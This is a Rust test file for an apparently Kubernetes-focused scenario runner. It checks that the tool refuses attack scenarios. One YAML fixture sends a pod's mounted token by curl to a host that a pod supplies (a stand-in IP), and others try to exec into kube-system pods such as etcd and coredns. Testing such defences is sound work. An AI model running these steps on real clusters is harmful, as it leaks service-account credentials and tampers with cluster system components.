use crate::{page::Attack, traces::Place};

/// A Pod says the address of a host of its own, to which a later step would send a token.
const FOREIGN_HOST: &str = "\
title: A Pod names the host
steps:
  - title: A Pod
    pod: {name: client, image: curl}
  - title: It names a host
    exec: {in: client, command: [printf, '203.0.113.7']}
    save: {host: stdout}
  - title: The token would go there
    curl: {in: client, url: 'https://{saved.host}/', token: mounted, insecure: true}
    expect: {exitCode: 28}
    timeout: 10s
";

#[test]
fn attack_k29_a_pod_cannot_say_where_a_token_goes() {
    let mut place = Place::new();
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("host.yaml");
    std::fs::write(&file, FOREIGN_HOST).expect("written");
    let said = place.run(&["run", "--cluster", "builtin", &file.to_string_lossy()]);
    assert_eq!(said.code, Some(1), "{said:?}");
    let flat = said.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.contains("its token would go to `203.0.113.7`"), "{said:?}");
    assert!(flat.contains("the call was not made"), "{said:?}");
    let tried = "a Pod's output becomes the host of a later call with a token";
    Attack::new("K29", tried, file!())
        .held("Only a node, a Service or a Pod of the cluster gets it: the call is not made, exit code 1.");
}

#[test]
fn attack_k29b_an_untrusted_scenario_calls_from_no_pod_of_the_clusters_own() {
    let mut place = Place::new();
    let folder = tempfile::tempdir().expect("a folder");
    for (name, pod) in [
        ("owner", "deployment/kube-system/coredns"),
        ("name", "pod/kube-system/etcd"),
        ("labels", "{labels: {k8s-app: kube-dns}, namespace: kube-system}"),
    ] {
        let file = folder.path().join(format!("{name}.yaml"));
        let text = format!("title: t\nsteps:\n  - title: t\n    exec: {{in: {pod}, command: [ls]}}\n");
        std::fs::write(&file, text).expect("written");
        let said = place.run(&["run", "--untrusted", "--cluster", "builtin", &file.to_string_lossy()]);
        assert_eq!(said.code, Some(2), "{name}: {said:?}");
        assert!(said.stderr.contains("a Pod of namespace `kube-system` that it does not make"), "{name}: {said:?}");
    }
    let tried = "`in:` of an untrusted scenario names the cluster's own Pods: by what owns them, by name, by labels";
    Attack::new("K29b", tried, file!()).held("Each is refused at its line before anything starts, exit code 2.");
}
